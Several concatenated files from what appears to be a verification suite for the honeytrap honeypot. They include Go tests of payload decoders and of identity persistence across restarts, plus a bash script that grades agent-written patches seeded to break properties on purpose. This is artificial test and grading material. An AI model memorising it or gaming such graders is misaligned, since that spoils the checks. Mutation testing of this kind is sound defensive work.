		// recovered (reported by it as a fatal event)
		r.Label("payload/decoder-panicked-and-was-recovered", fatal)
	}
}

// runDecoderBatch feeds datagrams through the real loop of a fresh child, waits until the
// loop and every decoder goroutine are parked, then probes. It also counts the fatal
// events (a recovered decoder panic) the listener reported.
func runDecoderBatch(l cl.Local, frames [][]byte) (verdict error, fatal int, infra error) {
	cfg, _ := tables("arp", l)
	ch, err := cl.StartChild()
	if err != nil {
		return nil, 0, err
	}
	defer ch.Kill()
	k, err := ch.New(cfg)
	if err != nil {
		return nil, 0, fmt.Errorf("cannot create canary: %v", err)
	}
	if k.SendMany(frames) == nil {
		k.Rest() // a loop that never rests, or a dead child: the probe decides
	}
	verdict = feed(l, ch, k, nil, 20*time.Second)
	for _, e := range k.Events() {
		if e.Str("type") == "fatal" {
			fatal++
		}
	}
	return verdict, fatal, nil
}

// decoderConversations: first flights for the decoded TCP ports on connections that
// completed their handshake.
func decoderConversations() (out []conversation, labels []string) {
	sport := uint16(30000)
	bases := tcpBases()
	for _, dport := range []uint16{23, 80, 139, 443, 445, 1433, 6379, 9200} {
		for _, b := range bases[dport] {
			vs := variants(b, 48, 16, nil)
			if strings.Contains(b.name, "/") { // a text shape: itself and a few cuts
				vs = variants(b, 0, 64, nil)
			}
			for _, v := range vs {
				if len(v.data) == 0 || len(v.data) > 1400 {
					continue
				}
				sport++
				if sport < 30000 {
					sport = 30000
				}
				out = append(out, conversation{Sport: sport, Dport: dport, ISN: uint32(sport) * 40503, Handshake: "full",
					Steps: []convStep{{Flags: cl.PSH | cl.ACK, Len: len(v.data), Data: hex.EncodeToString(v.data)}}, Note: v.what})
				labels = append(labels, fmt.Sprintf("payload/tcp/dport=%d/%s", dport, v.kind))
			}
		}
	}
	return out, labels
}

func TestDecoderConversations(t *testing.T) {
	r := vlib.Open(prop)
	var c convCase
	if vlib.ReplayCase("TestDecoderConversations", &c) {
		l := env(t)
		e, infra := confirmConvs(r, l, c)
		if infra != nil {
			t.Fatalf("infra: %v", infra)
		}
		if e != nil {
			r.Violation(t, "TestDecoderConversations", c, e.Error())
		}
		return
	}
	if vlib.Replaying() {
		return
	}
	l := env(t)
	r.Rule(ruleText)
	r.Rule(payloadRule)
	all, labels := decoderConversations()
	si, sn := r.Shard()
	var mine []conversation
	for i, cv := range all {
		if i%sn != si {
			continue
		}
		cv := cv
		mine = append(mine, cv)
		r.Case(labels[i], fmt.Sprintf("%d/%s", cv.Dport, cv.Note), func() interface{} { return cv })
	}
	sweepConvs(t, r, l, "TestDecoderConversations", mine, map[string]bool{})
}
