#!/bin/bash
# seedcheck.sh <Cxx> <N> [extra props...]  - evaluate seeded change N of agent worktree /tmp/seed-Cxx:
#  1. patch applies at /repo HEAD, builds, touched packages' own tests pass
#  2. the demonstration fails with the change and passes without it
#  3. ./run Cxx (quick) against the changed tree: VIOLATION or not
# On success of 1+2 the change is stored under /verif/seeded/Cxx-N/ with meta.json.
ID=$1; N=$2; shift 2; PROPS="$ID $@"
SRC=${SEED_SRC_PREFIX:-/tmp/seed-}$ID/SEEDED/$N; TAG=${SEED_TAG:-}
[ -f $SRC/patch.diff ] || { echo "no $SRC/patch.diff"; exit 2; }
export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local
WT=/tmp/wt-seedchk-$ID-$TAG$N; VC=/tmp/verif-seedchk-$ID-$TAG$N
git -C /repo worktree remove --force $WT 2>/dev/null; rm -rf $WT $VC
git -C /repo worktree add -q --detach $WT HEAD || exit 2
place_demo() { # copy demo files per PATHS.txt
  while IFS= read -r line; do
    src=$(echo "$line" | sed 's/ *->.*//'); dst=$(echo "$line" | sed 's/.*-> *//')
    [ -n "$src" ] && [ -n "$dst" ] && mkdir -p $WT/$(dirname $dst) && cp $SRC/demo/$src $WT/$dst
  done < <(grep -- '->' $SRC/demo/PATHS.txt)
}
demo_pkgs() { grep -- '->' $SRC/demo/PATHS.txt | sed 's/.*-> *//' | xargs -n1 dirname | sort -u; }
run_demo() { local rc=0; for d in $(demo_pkgs); do (cd $WT && timeout 300 go test -vet=off -count=1 -run 'Seed|seed|ZZ|Zz' ./$d/ > /tmp/seedchk-demo.$$ 2>&1) || rc=1; tail -3 /tmp/seedchk-demo.$$ | cut -c1-200; done; rm -f /tmp/seedchk-demo.$$; return $rc; }
RES="{}"
place_demo
echo "--- demo on unchanged tree (must pass)"; run_demo; BASE=$?
(cd $WT && git apply $SRC/patch.diff) || { echo "PATCH DOES NOT APPLY"; git -C /repo worktree remove --force $WT; exit 3; }
TOUCHED=$(cd $WT && git diff --name-only | xargs -n1 dirname | sort -u)
echo "--- build + own tests of: $TOUCHED"
(cd $WT && go build ./... ) || { echo "DOES NOT BUILD"; git -C /repo worktree remove --force $WT; exit 3; }
OWN=0
for d in $TOUCHED; do
  # demo files would fail by design: move them away for the package's own tests
  mkdir -p /tmp/seedchk-hold.$$; for f in $(grep -- '->' $SRC/demo/PATHS.txt | sed 's/.*-> *//'); do [ -f $WT/$f ] && mv $WT/$f /tmp/seedchk-hold.$$/$(echo $f | tr / _); done
  if echo $d | grep -q "ja3/crypto/tls"; then (cd $WT && timeout 900 go test -vet=off -count=1 -run 'TestHandshakeServerRSAAES|TestVersion|TestMarshalUnmarshal' ./$d/ 2>&1 | tail -2) || OWN=1
  else (cd $WT && timeout 900 go test -vet=off -count=1 ./$d/ 2>&1 | tail -2 | cut -c1-200) || OWN=1; fi
  place_demo
done
rm -rf /tmp/seedchk-hold.$$
echo "--- demo with the change (must fail)"; run_demo; WITH=$?
# remove demo files before running our checks
for f in $(grep -- '->' $SRC/demo/PATHS.txt | sed 's/.*-> *//'); do rm -f $WT/$f; done
mkdir -p $VC && rsync -a --exclude .git --exclude .build --exclude replays --exclude seeded /verif/ $VC/
sed -i "s#=> /repo#=> $WT#" $VC/go.mod
sed -i "s#const Root = \"/verif\"#const Root = \"$VC\"#" $VC/vlib/vlib.go
CAUGHT=""
for P in $PROPS; do
  echo "--- ./run $P --tier quick against the changed tree"
  FULL=$(cd $VC && VERIF_LABD=$VC/.build/labd timeout 5400 ./run $P --tier ${SEEDCHECK_TIER:-quick} 2>&1 | grep "VIOLATION\|detail\|INFRA\|quick:\|thorough:" | sort | uniq | cut -c1-260)
  echo "$FULL" | head -7
  echo "$FULL" | grep -q "^VIOLATION" && CAUGHT="$CAUGHT $P"
done
git -C /repo worktree remove --force $WT; rm -rf $VC
echo "=== $ID-$TAG$N: demo_base_pass=$([ $BASE = 0 ] && echo yes || echo NO) own_tests_pass=$([ $OWN = 0 ] && echo yes || echo NO) demo_with_change_fails=$([ $WITH != 0 ] && echo yes || echo NO) caught_by=[${CAUGHT# }]"
if [ $BASE = 0 ] && [ $OWN = 0 ] && [ $WITH != 0 ]; then
  D=/verif/seeded/$ID-$TAG$N; mkdir -p $D; cp $SRC/patch.diff $D/; rm -rf $D/demo; cp -r $SRC/demo $D/demo; cp $SRC/README.md $D/README.agent.md 2>/dev/null
  python3 - "$D" "$ID" "$TAG$N" "${CAUGHT# }" <<'PY'
import json,sys,time
d,pid,n,caught=sys.argv[1:5]
import os
tier=os.environ.get("SEEDCHECK_TIER","quick")
try: meta=json.load(open(d+"/meta.json"))
except Exception: meta={}
meta.update({"property":pid,"seed":n,"breaks":pid,"needs":"see README.agent.md (written by the independent agent that produced the change)",
 "confirmed":{"applies_builds":True,"touched_packages_tests_pass":True,"demo_passes_without_change":True,"demo_fails_with_change":True},
 "ran":["seedcheck.sh %s %s"%(pid,n)],"caught_by_"+tier:caught.split() if caught else [],"checked_at":time.strftime("%Y-%m-%dT%H:%M:%SZ",time.gmtime())})
json.dump(meta,open(d+"/meta.json","w"),indent=1)
PY
fi
