// Package c18 checks property C18: the sensor identity (token on events, SSH host key,
// TLS certificates of ftp/smtp/ldap, agent server key) survives restarts and interrupted
// first starts on one data directory.
//
// Badger is one global per process, so every run of a restart history is a separate OS
// process: the test binary re-executes itself in "child mode" (VERIF_C18_CHILD=<json spec>,
// handled in TestMain before vlib.Main). The child starts the REAL server on the given data
// directory and observes the identity the way a remote party would: the token on captured
// events, the host key offered to an x/crypto/ssh client, the certificate presented to a
// crypto/tls client after AUTH TLS / STARTTLS / LDAP StartTLS, the agent public key printed
// by the agent listener and proven by a Noise_NK client handshake against it.
package c18

import (
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"os"
	"regexp"
	"sort"
	"strings"
	"sync"
	"time"

	"github.com/mimoo/disco/libdisco"
	"golang.org/x/crypto/ssh"

	"github.com/honeytrap/honeytrap/config"
	"github.com/honeytrap/honeytrap/event"
	"github.com/honeytrap/honeytrap/listener"
	_ "github.com/honeytrap/honeytrap/listener/agent"
	_ "github.com/honeytrap/honeytrap/services/ftp"
	_ "github.com/honeytrap/honeytrap/services/ldap"
	_ "github.com/honeytrap/honeytrap/services/smtp"
	_ "github.com/honeytrap/honeytrap/services/ssh"

	"verif/lab"
)

// Spec tells the child what to run.
type Spec struct {
	DataDir string `json:"datadir"`
	SSH     string `json:"ssh,omitempty"` // "", "ssh-simulator", "ssh-auth", "ssh-proxy", "ssh-jail"
	FTP     bool   `json:"ftp,omitempty"`
	SMTP    bool   `json:"smtp,omitempty"`
	LDAP    bool   `json:"ldap,omitempty"`
	Agent   bool   `json:"agent,omitempty"`
	// More: types of further service instances enabled in the same start, each on a port of
	// its own ("ssh-auth", "ftp", ...). Instances whose types persist the same identity item
	// (the four ssh services share ssh.private-key, two ftp instances share ftp.pem* ...)
	// share that item.
	More []string `json:"more,omitempty"`
	// Clients: number of clients that observe EACH identity-bearing instance (and the agent
	// listener) in this run. 0 or 1: one client per instance, one instance after the other.
	// >= 2: every instance gets that many connections, each is driven to just before the step
	// that makes the server use its identity (TLS handshake after AUTH TLS / STARTTLS / LDAP
	// StartTLS, SSH key exchange, Noise handshake), then all clients of all instances are
	// released together from one barrier - the first uses of the identity overlap.
	Clients int `json:"clients,omitempty"`
	// Hold: after the identity has been reported the process stays alive - server running,
	// store open - until its standard input is closed, and only then exits (without closing
	// the store, like every other run). The parent starts the next run(s) of the history in
	// the meantime: an overlapping restart.
	Hold bool `json:"hold,omitempty"`
}

// instT is one configured service instance that presents a persisted identity item.
type instT struct {
	Name string // service name in the configuration = key in Identity.Items
	Type string // registered service type
	Item string // persisted identity item it presents: ssh | ftp | smtp | ldap
	Port int
}

// itemOf maps a service type to the identity item it persists ("" = none known).
func itemOf(typ string) string {
	switch typ {
	case "ssh-simulator", "ssh-auth", "ssh-proxy", "ssh-jail":
		return "ssh"
	case "ftp", "smtp", "ldap":
		return typ
	}
	return ""
}

// instances lists the service instances of one start: the primary instance of each item
// (named like the item, on its standard port) and the further ones from more.
func instances(sshType string, ftp, smtp, ldap bool, more []string) []instT {
	var out []instT
	if sshType != "" {
		out = append(out, instT{"ssh", sshType, "ssh", ports["ssh"]})
	}
	for _, x := range []struct {
		on bool
		n  string
	}{{ftp, "ftp"}, {smtp, "smtp"}, {ldap, "ldap"}} {
		if x.on {
			out = append(out, instT{x.n, x.n, x.n, ports[x.n]})
		}
	}
	for i, typ := range more {
		it := itemOf(typ)
		if it == "" {
			continue
		}
		out = append(out, instT{fmt.Sprintf("%s-x%d", it, i), typ, it, 2000 + i})
	}
	return out
}

func (s Spec) instances() []instT { return instances(s.SSH, s.FTP, s.SMTP, s.LDAP, s.More) }

// Identity is what one completed run presented to the outside.
type Identity struct {
	Tokens []string          `json:"tokens"`         // distinct token values seen on captured events
	Events int               `json:"events"`         // number of captured events
	Items  map[string]string `json:"items"`          // "ssh" host key, "ftp"/"smtp"/"ldap" cert DER, "agent" public key (hex)
	Errs   map[string]string `json:"errs,omitempty"` // per item: why it could not be observed
	Notes  []string          `json:"notes,omitempty"`
	// Clients: with Spec.Clients >= 2, what every single concurrent client of an instance was
	// presented (Items then holds the first value any of them saw, Errs the first failure).
	Clients map[string][]ClientObs `json:"clients,omitempty"`
}

// ClientObs is what one of several concurrent clients of one instance saw.
type ClientObs struct {
	V   string `json:"v,omitempty"`
	Err string `json:"err,omitempty"`
}

// barrier releases its n participants together. Every participant arrives exactly once -
// at its gate or, when it fails before reaching it, when it gives up - so nobody waits for
// a client that will never come.
type barrier struct{ wg sync.WaitGroup }

func newBarrier(n int) *barrier {
	b := &barrier{}
	b.wg.Add(n)
	return b
}

// participant returns the gate function of one participant: the first call arrives and
// waits for everybody else, later calls return at once.
func (b *barrier) participant() func() {
	var once sync.Once
	return func() {
		once.Do(func() {
			b.wg.Done()
			b.wg.Wait()
		})
	}
}

func noGate() {}

// record folds the per-client observations of one instance into the identity.
func (ident *Identity) record(name string, obs []ClientObs) {
	if ident.Clients == nil {
		ident.Clients = map[string][]ClientObs{}
	}
	ident.Clients[name] = obs
	for k, o := range obs {
		if o.Err != "" {
			if _, have := ident.Errs[name]; !have {
				ident.Errs[name] = fmt.Sprintf("client %d of %d concurrent clients: %s", k+1, len(obs), o.Err)
			}
			continue
		}
		if _, have := ident.Items[name]; !have {
			ident.Items[name] = o.V
		}
	}
}

type childMsg struct {
	Ev       string    `json:"ev"` // boot | started | identity | fatal
	Msg      string    `json:"msg,omitempty"`
	Identity *Identity `json:"identity,omitempty"`
}

const ioTimeout = 40 * time.Second

var ports = map[string]int{"ssh": 22, "ftp": 21, "smtp": 25, "ldap": 389, "probe": 7}

func (s Spec) toml(id string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "[listener]\ntype=\"verif-mem\"\nid=%q\n\n[channel.cap]\ntype=\"verif-capture\"\nid=%q\n\n[[filter]]\nchannel=[\"cap\"]\n\n", id, id+"-cap")
	fmt.Fprintf(&b, "[service.probe]\ntype=\"verif-plain\"\nid=%q\n\n[[port]]\nport=\"tcp/%d\"\nservices=[\"probe\"]\n\n", id+"-probe", ports["probe"])
	for _, in := range s.instances() {
		fmt.Fprintf(&b, "[service.%s]\ntype=%q\n\n[[port]]\nport=\"tcp/%d\"\nservices=[%q]\n\n", in.Name, in.Type, in.Port, in.Name)
	}
	return b.String()
}

// childMain is the whole life of a child process.
func childMain(specJSON string) {
	out := os.NewFile(3, "c18-result")
	send := func(m childMsg) {
		d, _ := json.Marshal(m)
		d = append(d, '\n')
		if out != nil {
			if _, err := out.Write(d); err == nil {
				return
			}
		}
		os.Stdout.Write(append([]byte("@@C18@@ "), d...))
	}
	send(childMsg{Ev: "boot"})
	var spec Spec
	if err := json.Unmarshal([]byte(specJSON), &spec); err != nil {
		send(childMsg{Ev: "fatal", Msg: "bad spec: " + err.Error()})
		os.Exit(3)
	}
	os.Setenv("VERIF_DATADIR", spec.DataDir)
	id := lab.NextID()
	srv, err := lab.Start(id, spec.toml(id), true)
	if err != nil {
		send(childMsg{Ev: "fatal", Msg: "server start: " + err.Error()})
		os.Exit(4)
	}
	send(childMsg{Ev: "started"})
	cap := lab.GetCapture(id + "-cap")
	stub := lab.GetStub(id + "-probe")
	if cap == nil || stub == nil {
		send(childMsg{Ev: "fatal", Msg: "capture channel or probe service was not constructed"})
		os.Exit(4)
	}
	ident := &Identity{Items: map[string]string{}, Errs: map[string]string{}}

	// token: one event put on the real bus through the probe service, plus whatever the
	// services emit while their identity is being observed below
	stub.Bus().Send(event.New(event.Category("c18"), event.Type("probe"), event.Custom("c18.probe", "1")))

	client := 40000
	dial := func(port int) *lab.ClientNetConn {
		client++
		c := srv.L.DialTCP(&net.TCPAddr{IP: net.IPv4(10, 0, 0, 1), Port: port}, &net.TCPAddr{IP: net.IPv4(203, 0, 113, 9), Port: client})
		nc := c.NetConn()
		nc.SetDeadline(time.Now().Add(ioTimeout))
		return nc
	}
	observer := func(in instT) func(nc *lab.ClientNetConn, gate func()) (string, error) {
		switch in.Item {
		case "ssh":
			if in.Type == "ssh-proxy" || in.Type == "ssh-jail" {
				// the host key is offered (and its signature verified) during key exchange;
				// these two types are not taken any further than that (the proxy would dial
				// its director on a password attempt)
				return sshHostKeyNoAuth
			}
			return sshHostKey
		case "ftp":
			return ftpCert
		case "smtp":
			return smtpCert
		case "ldap":
			return ldapCert
		}
		return nil
	}
	if spec.Clients < 2 {
		for _, in := range spec.instances() {
			fn := observer(in)
			if fn == nil {
				continue
			}
			nc := dial(in.Port)
			v, err := fn(nc, noGate)
			nc.Close()
			if err != nil {
				ident.Errs[in.Name] = err.Error()
				continue
			}
			ident.Items[in.Name] = v
		}
	} else {
		// the first uses of every identity item overlap: all clients of all instances are
		// connected and prepared, then released together
		var insts []instT
		for _, in := range spec.instances() {
			if observer(in) != nil {
				insts = append(insts, in)
			}
		}
		bar := newBarrier(len(insts) * spec.Clients)
		results := make([][]ClientObs, len(insts))
		var wg sync.WaitGroup
		for ii, in := range insts {
			results[ii] = make([]ClientObs, spec.Clients)
			for k := 0; k < spec.Clients; k++ {
				nc := dial(in.Port)
				wg.Add(1)
				go func(in instT, slot *ClientObs, nc *lab.ClientNetConn) {
					defer wg.Done()
					arrive := bar.participant()
					defer arrive() // a client that failed early must not hold up the others
					gate := func() {
						arrive()
						// waiting for the others is not the server's time
						nc.SetDeadline(time.Now().Add(ioTimeout))
					}
					v, err := observer(in)(nc, gate)
					nc.Close()
					if err != nil {
						slot.Err = err.Error()
						return
					}
					slot.V = v
				}(in, &results[ii][k], nc)
			}
		}
		wg.Wait()
		for ii, in := range insts {
			ident.record(in.Name, results[ii])
		}
	}
	if spec.Agent {
		obs, err := agentKey(spec.Clients)
		if err != nil {
			ident.Errs["agent"] = err.Error()
		} else if spec.Clients < 2 {
			if obs[0].Err != "" {
				ident.Errs["agent"] = obs[0].Err
			} else {
				ident.Items["agent"] = obs[0].V
			}
		} else {
			ident.record("agent", obs)
		}
	}

	// wait for the probe event, then let stragglers (ssh/ldap/ftp events) arrive
	cap.WaitFor(ioTimeout, func(evs []lab.Ev) bool {
		for _, e := range evs {
			if e.Str("c18.probe") == "1" {
				return true
			}
		}
		return false
	})
	cap.Settle(40*time.Millisecond, 2*time.Second)
	seen := map[string]bool{}
	evs := cap.Events()
	for _, e := range evs {
		if !e.Has("token") {
			seen["<absent>"] = true
			continue
		}
		seen[e.Str("token")] = true
	}
	for t := range seen {
		ident.Tokens = append(ident.Tokens, t)
	}
	sort.Strings(ident.Tokens)
	ident.Events = len(evs)
	send(childMsg{Ev: "identity", Identity: ident})
	if spec.Hold {
		// stay up (server running, store open) until the parent closes our standard input;
		// the parent dying closes it too
		io.Copy(io.Discard, os.Stdin)
	}
	// like the real daemon, exit without closing the store
	os.Exit(0)
}

func readLine(c io.Reader) (string, error) {
	var line []byte
	b := make([]byte, 1)
	for {
		n, err := c.Read(b)
		if n == 1 {
			if b[0] == '\n' {
				return strings.TrimRight(string(line), "\r"), nil
			}
			line = append(line, b[0])
			if len(line) > 4096 {
				return "", fmt.Errorf("reply line too long")
			}
		}
		if err != nil {
			return "", fmt.Errorf("reading reply (got %q): %v", line, err)
		}
	}
}

// readReply reads one FTP/SMTP reply (possibly multi-line "250-...") and returns its code.
func readReply(c io.Reader) (string, string, error) {
	var all []string
	for {
		l, err := readLine(c)
		if err != nil {
			return "", strings.Join(all, "|"), err
		}
		all = append(all, l)
		if len(l) >= 4 && l[3] == '-' {
			continue
		}
		if len(l) < 3 {
			return "", strings.Join(all, "|"), fmt.Errorf("malformed reply %q", l)
		}
		return l[:3], strings.Join(all, "|"), nil
	}
}

func tlsPeer(nc net.Conn) (string, error) {
	tc := tls.Client(nc, &tls.Config{InsecureSkipVerify: true})
	if err := tc.Handshake(); err != nil {
		return "", fmt.Errorf("TLS handshake: %v", err)
	}
	st := tc.ConnectionState()
	if len(st.PeerCertificates) == 0 {
		return "", fmt.Errorf("TLS handshake completed without a server certificate")
	}
	raw := st.PeerCertificates[0].Raw
	if _, err := x509.ParseCertificate(raw); err != nil {
		return "", fmt.Errorf("presented certificate does not parse: %v", err)
	}
	return hex.EncodeToString(raw), nil
}

// Every observer calls gate() exactly once, immediately before the step that makes the
// server use its identity.

func sshHostKey(nc *lab.ClientNetConn, gate func()) (string, error) {
	return sshHostKeyWith(nc, gate, []ssh.AuthMethod{ssh.Password("root")})
}

func sshHostKeyNoAuth(nc *lab.ClientNetConn, gate func()) (string, error) {
	return sshHostKeyWith(nc, gate, nil)
}

func sshHostKeyWith(nc *lab.ClientNetConn, gate func(), auth []ssh.AuthMethod) (string, error) {
	// the server signs the key exchange with its host key once the client has sent its
	// version and KEXINIT: nothing of that has been sent yet
	gate()
	var key []byte
	cfg := &ssh.ClientConfig{
		User: "root",
		Auth: auth,
		HostKeyCallback: func(hostname string, remote net.Addr, k ssh.PublicKey) error {
			key = k.Marshal()
			return nil
		},
		Timeout: ioTimeout,
	}
	cc, _, _, err := ssh.NewClientConn(nc, "10.0.0.1:22", cfg)
	if cc != nil {
		cc.Close()
	}
	// the callback runs after the client verified the key-exchange signature made with
	// the host key; authentication may fail afterwards (ssh-auth rejects everything)
	if key == nil {
		return "", fmt.Errorf("no host key was offered: %v", err)
	}
	if _, perr := ssh.ParsePublicKey(key); perr != nil {
		return "", fmt.Errorf("offered host key does not parse: %v", perr)
	}
	return hex.EncodeToString(key), nil
}

func ftpCert(nc *lab.ClientNetConn, gate func()) (string, error) {
	if code, txt, err := readReply(nc); err != nil || code != "220" {
		return "", fmt.Errorf("ftp greeting %q: %v", txt, err)
	}
	nc.Write([]byte("AUTH TLS\r\n"))
	if code, txt, err := readReply(nc); err != nil || code != "234" {
		return "", fmt.Errorf("AUTH TLS answered %q: %v", txt, err)
	}
	gate()
	return tlsPeer(nc)
}

func smtpCert(nc *lab.ClientNetConn, gate func()) (string, error) {
	if code, txt, err := readReply(nc); err != nil || code != "220" {
		return "", fmt.Errorf("smtp greeting %q: %v", txt, err)
	}
	nc.Write([]byte("EHLO verif.example\r\n"))
	code, txt, err := readReply(nc)
	if err != nil || code != "250" {
		return "", fmt.Errorf("EHLO answered %q: %v", txt, err)
	}
	if !strings.Contains(txt, "STARTTLS") {
		return "", fmt.Errorf("EHLO does not offer STARTTLS: %q", txt)
	}
	nc.Write([]byte("STARTTLS\r\n"))
	if code, txt, err := readReply(nc); err != nil || code != "220" {
		return "", fmt.Errorf("STARTTLS answered %q: %v", txt, err)
	}
	gate()
	return tlsPeer(nc)
}

// LDAP StartTLS extended request (RFC 4511 4.14), message id 1
var ldapStartTLS = append([]byte{0x30, 0x1d, 0x02, 0x01, 0x01, 0x77, 0x18, 0x80, 0x16}, []byte("1.3.6.1.4.1.1466.20037")...)

func ldapCert(nc *lab.ClientNetConn, gate func()) (string, error) {
	nc.Write(ldapStartTLS)
	// ExtendedResponse: SEQUENCE { id 1, [APPLICATION 24] { resultCode ENUMERATED, ... } }
	hdr := make([]byte, 2)
	if _, err := io.ReadFull(nc, hdr); err != nil {
		return "", fmt.Errorf("reading StartTLS response: %v", err)
	}
	if hdr[0] != 0x30 || hdr[1] >= 0x80 {
		return "", fmt.Errorf("unexpected StartTLS response header % x", hdr)
	}
	body := make([]byte, int(hdr[1]))
	if _, err := io.ReadFull(nc, body); err != nil {
		return "", fmt.Errorf("reading StartTLS response body: %v", err)
	}
	// 02 01 01 78 len 0a 01 <code>
	if len(body) < 8 || !bytes.Equal(body[:3], []byte{0x02, 0x01, 0x01}) || body[3] != 0x78 || body[5] != 0x0a || body[6] != 0x01 {
		return "", fmt.Errorf("unexpected StartTLS response % x", body)
	}
	if body[7] != 0 {
		return "", fmt.Errorf("StartTLS refused with result code %d", body[7])
	}
	gate()
	return tlsPeer(nc)
}

var ansi = regexp.MustCompile("\x1b\\[[0-9;]*m")
var agentLine = regexp.MustCompile(`Honeytrap Agent Server public key: ([0-9a-fA-F]*)`)

// agentKey constructs the real agent listener through the public registry on a loopback
// port, captures the public key it announces on stdout (that line is how an operator
// learns the key to configure agents with) and proves with Noise_NK client handshakes
// that the listener really holds the matching private key: n clients (at least one) are
// connected first and then do their handshakes together. Per client the result is the
// announced key (the handshake against it succeeded) or why the handshake failed.
func agentKey(n int) ([]ClientObs, error) {
	if n < 1 {
		n = 1
	}
	fn, ok := listener.Get("agent")
	if !ok {
		return nil, fmt.Errorf("agent listener is not registered")
	}
	var lastErr error
	for attempt := 0; attempt < 5; attempt++ {
		probe, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			return nil, fmt.Errorf("infra: no loopback port: %v", err)
		}
		addr := probe.Addr().String()
		probe.Close()

		var cfg config.Config
		if err := cfg.Load(strings.NewReader(fmt.Sprintf("[listener]\ntype=\"agent\"\nlisten=%q\n", addr))); err != nil {
			return nil, fmt.Errorf("infra: agent listener config: %v", err)
		}
		l, err := fn(listener.WithConfig(cfg.Listener, &cfg))
		if err != nil {
			return nil, fmt.Errorf("constructing agent listener: %v", err)
		}
		// capture what Start prints
		old := os.Stdout
		pr, pw, err := os.Pipe()
		if err != nil {
			return nil, fmt.Errorf("infra: pipe: %v", err)
		}
		os.Stdout = pw
		serr := l.Start(context.Background())
		os.Stdout = old
		pw.Close()
		printed, _ := io.ReadAll(pr)
		pr.Close()
		text := ansi.ReplaceAllString(string(printed), "")
		if serr != nil {
			lastErr = fmt.Errorf("agent listener Start: %v (%s)", serr, strings.TrimSpace(text))
			if strings.Contains(serr.Error(), "address already in use") {
				continue
			}
			return nil, lastErr
		}
		m := agentLine.FindStringSubmatch(text)
		if m == nil {
			return nil, fmt.Errorf("agent listener did not announce its public key (printed %q)", text)
		}
		pub, err := hex.DecodeString(m[1])
		if err != nil || len(pub) != 32 {
			return nil, fmt.Errorf("announced agent public key %q is not 32 bytes of hex", m[1])
		}
		// TCP connect trouble on loopback (ephemeral ports exhausted by other work on the
		// machine ...) is the environment, not the sensor
		conns := make([]net.Conn, n)
		for k := range conns {
			var tc net.Conn
			for try := 0; try < 20; try++ {
				d := &net.Dialer{Timeout: ioTimeout}
				if try > 0 {
					// another loopback source address has its own ephemeral port space
					d.LocalAddr = &net.TCPAddr{IP: net.IPv4(127, 0, byte(os.Getpid()>>8), byte(2+try))}
				}
				tc, err = d.Dial("tcp", addr)
				if err == nil {
					break
				}
				time.Sleep(250 * time.Millisecond)
			}
			if err != nil {
				for _, c := range conns[:k] {
					c.Close()
				}
				return nil, fmt.Errorf("infra: cannot connect to the agent listener on %s: %v", addr, err)
			}
			conns[k] = tc
		}
		obs := make([]ClientObs, n)
		bar := newBarrier(n)
		var wg sync.WaitGroup
		for k, tc := range conns {
			wg.Add(1)
			go func(slot *ClientObs, tc net.Conn) {
				defer wg.Done()
				bar.participant()()
				tc.SetDeadline(time.Now().Add(ioTimeout))
				cc := libdisco.Client(tc, &libdisco.Config{HandshakePattern: libdisco.Noise_NK, RemoteKey: pub})
				err := cc.Handshake()
				tc.Close()
				if err != nil {
					slot.Err = fmt.Sprintf("Noise_NK handshake against the announced key %s failed: %v", m[1], err)
					return
				}
				slot.V = strings.ToLower(m[1])
			}(&obs[k], tc)
		}
		wg.Wait()
		return obs, nil
	}
	return nil, fmt.Errorf("infra: %v", lastErr)
}
