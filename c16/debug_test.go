package c16

import (
	"fmt"
	"os"
	"testing"

	"verif/vlib"
)

func TestDebugLoop(t *testing.T) {
	if os.Getenv("C16_DEBUG") == "" {
		t.Skip()
	}
	var mc mergeCase
	var sc sessCase
	if vlib.ReplayCase("TestSessionMerges", &mc) {
		sc = mc.session()
	} else if !vlib.ReplayCase("TestSessionModel", &sc) {
		t.Skip()
	}
	fails := map[string]int{}
	for i := 0; i < 1500; i++ {
		if err := runSession(sc); err != nil {
			f, ok := err.(*failure)
			if !ok {
				t.Fatal(err)
			}
			fails[f.kind]++
			if fails[f.kind] == 1 {
				fmt.Println(f.kind, f.msg)
			}
		}
	}
	fmt.Println("fails", fails)
}
