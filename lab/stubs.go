package lab

import (
	"bytes"
	"context"
	"io"
	"net"
	"sync"
	"time"

	"github.com/honeytrap/honeytrap/pushers"
	"github.com/honeytrap/honeytrap/services"
)

// Invocation is one Handle call of a stub service.
type Invocation struct {
	Stub   string
	Local  string
	Remote string
	Data   []byte // bytes read until EOF / error
	Done   bool
	Err    string
}

// Stub is the state shared by both stub service types.
type Stub struct {
	ID     string `toml:"id"`
	Prefix string `toml:"prefix"`
	Reply  string `toml:"reply"`
	// ReadDelayMs delays the first read (a service that does something before it reads)
	ReadDelayMs int `toml:"read_delay_ms"`

	mu       sync.Mutex
	cond     *sync.Cond
	ch       pushers.Channel
	invs     []*Invocation
	detected [][]byte
}

var stubs = map[string]*Stub{}

type plainStub struct{ *Stub }
type detectStub struct{ *Stub }

func (s detectStub) CanHandle(p []byte) bool {
	s.mu.Lock()
	s.detected = append(s.detected, append([]byte(nil), p...))
	s.mu.Unlock()
	return bytes.HasPrefix(p, []byte(s.Prefix))
}

func newStub(options []services.ServicerFunc, wrap func(*Stub) services.Servicer) services.Servicer {
	s := &Stub{}
	s.cond = sync.NewCond(&s.mu)
	sv := wrap(s)
	for _, o := range options {
		o(sv)
	}
	regMu.Lock()
	stubs[s.ID] = s
	regMu.Unlock()
	return sv
}

func init() {
	services.Register("verif-plain", func(options ...services.ServicerFunc) services.Servicer {
		return newStub(options, func(s *Stub) services.Servicer { return plainStub{s} })
	})
	services.Register("verif-detect", func(options ...services.ServicerFunc) services.Servicer {
		return newStub(options, func(s *Stub) services.Servicer { return detectStub{s} })
	})
}

func (s *Stub) SetChannel(c pushers.Channel) { s.ch = c }

// Bus is the channel the server handed to the stub - the real event bus.
func (s *Stub) Bus() pushers.Channel { return s.ch }

func (s *Stub) Handle(ctx context.Context, conn net.Conn) error {
	inv := &Invocation{Stub: s.ID, Local: conn.LocalAddr().String(), Remote: conn.RemoteAddr().String()}
	s.mu.Lock()
	s.invs = append(s.invs, inv)
	s.cond.Broadcast()
	s.mu.Unlock()
	if s.Reply != "" {
		conn.Write([]byte(s.Reply))
	}
